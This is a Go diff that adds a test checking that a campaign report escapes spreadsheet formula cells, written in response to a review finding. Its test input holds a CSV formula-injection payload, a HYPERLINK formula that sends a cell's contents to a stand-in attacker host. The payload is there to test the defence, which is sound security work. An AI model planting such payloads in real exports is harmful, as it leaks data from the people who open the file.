@@ -3,6 +3,7 @@ package campaign
 import (
 	"context"
 	"database/sql"
+	"encoding/csv"
 	"io"
 	"strings"
 	"testing"
@@ -288,4 +289,29 @@ func TestOpenNeverEchoesPassword(t *testing.T) {
 			assert.NotContains(t, msg, part, "error for a URL with a password echoes part of it")
 		}
 	}
+}
+
+// Review finding 8: report cells that a spreadsheet would run as a formula
+// are escaped.
+func TestReportEscapesFormulas(t *testing.T) {
+	db := openTest(t, "sqlite")
+	ctx := context.Background()
+	in := "key,openid,amount\n\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"click\"\")\",oA,100\n@SUM(1+1),oB,100\n+1,oC,100\n-2,-oD,100\nplain,oE,100\n"
+	_, err := db.Plan(ctx, basePlan("x"), csvOpener(in))
+	require.NoError(t, err)
+	var b strings.Builder
+	require.NoError(t, db.Report(ctx, "x", &b))
+	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, recs, 6)
+	for _, r := range recs[1:] {
+		for i, cell := range r {
+			if cell != "" {
+				assert.NotContains(t, "=+-@\t\r", cell[:1], "column %s cell %q", ReportColumns[i], cell)
+			}
+		}
+	}
+	assert.Equal(t, "'@SUM(1+1)", recs[2][0])
+	assert.Equal(t, "'-oD", recs[4][1])
+	assert.Equal(t, "plain", recs[5][0])
 }
